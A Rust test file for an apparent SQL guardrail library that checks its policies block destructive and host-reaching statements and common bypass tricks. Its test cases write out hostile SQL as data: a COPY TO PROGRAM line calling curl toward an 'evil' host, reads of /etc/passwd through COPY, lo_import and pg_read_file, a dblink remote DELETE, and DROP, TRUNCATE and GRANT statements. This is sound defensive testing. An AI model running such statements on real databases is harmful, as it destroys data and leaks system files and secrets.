//! Guardrail decisions as tables of cases, bypass attempts included: each
//! rule, with comments, case, quoting, several statements, nesting and
//! prepared statements trying to get around it.

use postern_l7_sql::{GuardrailPolicy, Guardrails, StatementKind, Verdict};

/// `None`: allowed; `Some(rule)`: blocked by that rule.
fn decide(policy: &GuardrailPolicy, sql: &str) -> Option<String> {
    match Guardrails::new(policy).unwrap().check(sql) {
        Verdict::Allow(_) => None,
        Verdict::Block(blocked) => {
            assert!(
                blocked.message().contains(&blocked.rule),
                "the message names the rule"
            );
            Some(blocked.rule)
        }
    }
}

fn run(policy: &GuardrailPolicy, cases: &[(&str, Option<&str>)]) {
    let mut wrong = Vec::new();
    for (sql, expected) in cases {
        let got = decide(policy, sql);
        if got.as_deref() != *expected {
            wrong.push(format!("{sql:?}: expected {expected:?}, got {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "wrong decisions:\n{}", wrong.join("\n"));
}

#[test]
fn the_default_policy_refuses_destructive_and_host_reaching_statements() {
    let policy = GuardrailPolicy::default();
    run(
        &policy,
        &[
            ("SELECT * FROM users WHERE id = 1", None),
            ("INSERT INTO users (name) VALUES ('a')", None),
            ("UPDATE users SET name = 'b' WHERE id = 1", None),
            ("DELETE FROM users WHERE id = 1", None),
            ("BEGIN; UPDATE t SET a = 1 WHERE b = 2; COMMIT", None),
            ("", None),
            ("DROP TABLE users", Some("deny_kind:drop")),
            ("drop table users", Some("deny_kind:drop")),
            ("DrOp TaBlE \"users\"", Some("deny_kind:drop")),
            (
                "/* harmless */ DROP /* really */ TABLE users",
                Some("deny_kind:drop"),
            ),
            ("-- comment\nDROP TABLE users", Some("deny_kind:drop")),
            ("SELECT 1; DROP TABLE users", Some("deny_kind:drop")),
            (
                "SELECT 'DROP TABLE x'; TRUNCATE users",
                Some("deny_kind:truncate"),
            ),
            ("DROP INDEX i", Some("deny_kind:drop")),
            ("DROP SCHEMA app CASCADE", Some("deny_kind:drop")),
            (
                "ALTER TABLE users ADD COLUMN x int",
                Some("deny_kind:alter"),
            ),
            ("ALTER ROLE app SUPERUSER", Some("deny_kind:alter")),
            ("GRANT ALL ON users TO public", Some("deny_kind:grant")),
            ("REVOKE SELECT ON users FROM app", Some("deny_kind:revoke")),
            (
                "COPY users TO PROGRAM 'curl evil'",
                Some("deny_kind:copy_program"),
            ),
            (
                "COPY users FROM PROGRAM 'id'",
                Some("deny_kind:copy_program"),
            ),
            ("copy users from '/etc/passwd'", Some("deny_kind:copy_file")),
            ("COPY users TO STDOUT", None),
            ("COPY users FROM STDIN", None),
            ("COPY users FROM STDIN; DROP TABLE users", Some("unparsed")),
            (
                "UPDATE users SET admin = true",
                Some("require_where:update"),
            ),
            ("DELETE FROM users", Some("require_where:delete")),
            (
                "delete from users -- where id = 1",
                Some("require_where:delete"),
            ),
            (
                "WITH x AS (DELETE FROM users RETURNING *) SELECT count(*) FROM x",
                Some("require_where:delete"),
            ),
            (
                "EXPLAIN ANALYZE DELETE FROM users",
                Some("require_where:delete"),
            ),
            (
                "PREPARE wipe AS DELETE FROM users",
                Some("require_where:delete"),
            ),
            ("PREPARE gone AS DROP TABLE users", Some("deny_kind:drop")),
            ("SELEC * FROM users", Some("unparsed")),
            ("DO $$ BEGIN DROP TABLE users; END $$", Some("unparsed")),
        ],
    );
}

#[test]
fn deny_kinds_are_configurable_and_unparsed_text_can_be_allowed() {
    let policy = GuardrailPolicy {
        deny_kinds: vec![StatementKind::Insert, StatementKind::Create],
        require_where: false,
        allow_unparsed: true,
        ..GuardrailPolicy::default()
    };
    run(
        &policy,
        &[
            ("DROP TABLE users", None),
            ("DELETE FROM users", None),
            ("INSERT INTO users VALUES (1)", Some("deny_kind:insert")),
            ("CREATE TABLE t (a int)", Some("deny_kind:create")),
            ("CREATE TEMP TABLE t AS SELECT 1", Some("deny_kind:create")),
            (
                "WITH n AS (INSERT INTO users VALUES (1) RETURNING id) SELECT * FROM n",
                Some("deny_kind:insert"),
            ),
            ("DO $$ BEGIN END $$", None),
        ],
    );
}

#[test]
fn table_lists_see_every_table_however_it_is_written() {
    let policy = GuardrailPolicy {
        deny_tables: vec!["payroll".into(), "secret.*".into()],
        ..GuardrailPolicy::default()
    };
    run(
        &policy,
        &[
            ("SELECT * FROM users", None),
            ("SELECT * FROM payroll", Some("deny_tables")),
            ("SELECT * FROM PAYROLL", Some("deny_tables")),
            ("SELECT * FROM \"payroll\"", Some("deny_tables")),
            ("SELECT * FROM \"Payroll\"", None),
            ("SELECT * FROM public.payroll", Some("deny_tables")),
            ("SELECT * FROM hr.payroll p", Some("deny_tables")),
            ("SELECT * FROM secret.keys", Some("deny_tables")),
            ("SELECT * FROM Secret.Keys", Some("deny_tables")),
            (
                "SELECT u.* FROM users u JOIN payroll p ON p.id = u.id",
                Some("deny_tables"),
            ),
            (
                "SELECT * FROM users WHERE id IN (SELECT id FROM payroll)",
                Some("deny_tables"),
            ),
            ("SELECT (SELECT max(pay) FROM payroll)", Some("deny_tables")),
            (
                "WITH p AS (SELECT * FROM payroll) SELECT * FROM p",
                Some("deny_tables"),
            ),
            ("WITH payroll AS (SELECT 1) SELECT * FROM payroll", None),
            (
                "SELECT * FROM users UNION SELECT * FROM payroll",
                Some("deny_tables"),
            ),
            ("INSERT INTO payroll VALUES (1)", Some("deny_tables")),
            (
                "UPDATE payroll SET pay = 0 WHERE id = 1",
                Some("deny_tables"),
            ),
            ("DELETE FROM payroll WHERE id = 1", Some("deny_tables")),
            ("COPY payroll TO STDOUT", Some("deny_tables")),
            ("SELECT 1; SELECT * FROM payroll", Some("deny_tables")),
            ("SELECT * FROM keys", None),
            ("SET search_path = secret", Some("search_path")),
            (
                "SELECT set_config('search_path', 'secret', false)",
                Some("search_path"),
            ),
            ("SET statement_timeout = 0", None),
        ],
    );
    let policy = GuardrailPolicy {
        allow_tables: vec![
            "orders".into(),
            "public.customers".into(),
            "pg_catalog.*".into(),
        ],
        ..GuardrailPolicy::default()
    };
    run(
        &policy,
        &[
            ("SELECT * FROM orders", None),
            ("SELECT * FROM customers", None),
            ("SELECT * FROM public.customers", None),
            ("SELECT * FROM hr.customers", Some("allow_tables")),
            ("SELECT relname FROM pg_catalog.pg_class", None),
            (
                "SELECT * FROM orders o JOIN payroll p ON true",
                Some("allow_tables"),
            ),
            ("SELECT 1", None),
        ],
    );
}

#[test]
fn read_only_lets_nothing_that_writes_through() {
    let policy = GuardrailPolicy {
        read_only: true,
        ..GuardrailPolicy::default()
    };
    run(
        &policy,
        &[
            ("SELECT * FROM users WHERE id = 1", None),
            ("select count(*) from orders group by 1", None),
            ("WITH r AS (SELECT 1) SELECT * FROM r", None),
            ("EXPLAIN SELECT * FROM users", None),
            ("SHOW search_path", None),
            ("SET search_path = app, public", None),
            ("SET statement_timeout = '5s'", None),
            ("BEGIN", None),
            ("BEGIN READ ONLY", None),
            ("COMMIT", None),
            ("COPY users TO STDOUT", None),
            ("COPY (SELECT * FROM users) TO STDOUT", None),
            ("DECLARE c CURSOR FOR SELECT * FROM users", None),
            ("PREPARE q AS SELECT * FROM users WHERE id = $1", None),
            ("INSERT INTO users VALUES (1)", Some("read_only")),
            ("UPDATE users SET a = 1 WHERE id = 1", Some("read_only")),
            ("DELETE FROM users WHERE id = 1", Some("read_only")),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                Some("read_only"),
            ),
            ("COPY users FROM STDIN", Some("read_only")),
            ("CREATE TABLE t (a int)", Some("read_only")),
            ("SELECT * INTO backup FROM users", Some("read_only")),
            ("SELECT * FROM users FOR UPDATE", Some("read_only")),
            (
                "WITH d AS (UPDATE users SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM d",
                Some("read_only"),
            ),
            (
                "EXPLAIN ANALYZE INSERT INTO users VALUES (1)",
                Some("read_only"),
            ),
            (
                "PREPARE w AS INSERT INTO users VALUES ($1)",
                Some("read_only"),
            ),
            ("SELECT 1; INSERT INTO users VALUES (1)", Some("read_only")),
            ("BEGIN READ WRITE", Some("read_only")),
            ("START TRANSACTION READ WRITE", Some("read_only")),
            (
                "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
                Some("read_only"),
            ),
            ("SET TRANSACTION READ WRITE", Some("read_only")),
            ("SET default_transaction_read_only = off", Some("read_only")),
            ("set transaction_read_only to off", Some("read_only")),
            ("SET ROLE postgres", Some("read_only")),
            ("SET SESSION AUTHORIZATION postgres", Some("unparsed")),
            ("RESET ALL", Some("unparsed")),
            (
                "SELECT set_config('default_transaction_read_only', 'off', false)",
                Some("read_only"),
            ),
            (
                "SELECT pg_catalog.SET_CONFIG('transaction_read_only', 'off', true)",
                Some("read_only"),
            ),
            ("SELECT nextval('users_id_seq')", Some("read_only")),
            ("SELECT lo_import('/etc/passwd')", Some("read_only")),
            (
                "SELECT * FROM pg_read_file('/etc/passwd')",
                Some("read_only"),
            ),
            (
                "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
                Some("read_only"),
            ),
            ("SELECT pg_terminate_backend(42)", Some("read_only")),
            ("VACUUM users", Some("read_only")),
            ("LISTEN jobs", None),
            ("NOTIFY jobs", Some("read_only")),
        ],
    );
}

#[test]
fn deny_patterns_and_bad_policies() {
    let policy = GuardrailPolicy {
        deny_patterns: vec!["(?i)pg_sleep".into()],
        ..GuardrailPolicy::default()
    };
    run(
        &policy,
        &[
            ("SELECT pg_sleep(10)", Some("deny_pattern")),
            ("SELECT PG_SLEEP(10)", Some("deny_pattern")),
            ("SELECT 1", None),
        ],
    );
    let bad_regex = GuardrailPolicy {
        deny_patterns: vec!["(".into()],
        ..GuardrailPolicy::default()
    };
    assert!(Guardrails::new(&bad_regex).is_err());
    let bad_table = GuardrailPolicy {
        deny_tables: vec!["a.b.c".into()],
        ..GuardrailPolicy::default()
    };
    assert!(Guardrails::new(&bad_table).is_err());
}
